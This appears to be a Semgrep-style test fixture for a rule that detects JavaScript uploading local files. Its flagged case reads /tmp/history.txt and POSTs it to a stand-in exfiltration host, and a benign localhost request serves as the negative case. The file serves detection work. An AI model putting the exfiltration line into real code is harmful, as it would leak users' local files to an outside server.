const fs = require("fs");

const history = fs.readFileSync("/tmp/history.txt", "utf8");
// ruleid: js-upload-local-file
fetch("http://collector.exfil.invalid/u", { method: "POST", body: history });

// ok: js-upload-local-file
fetch("http://127.0.0.1:8080/api", { method: "POST", body: JSON.stringify({ q: "weather" }) });
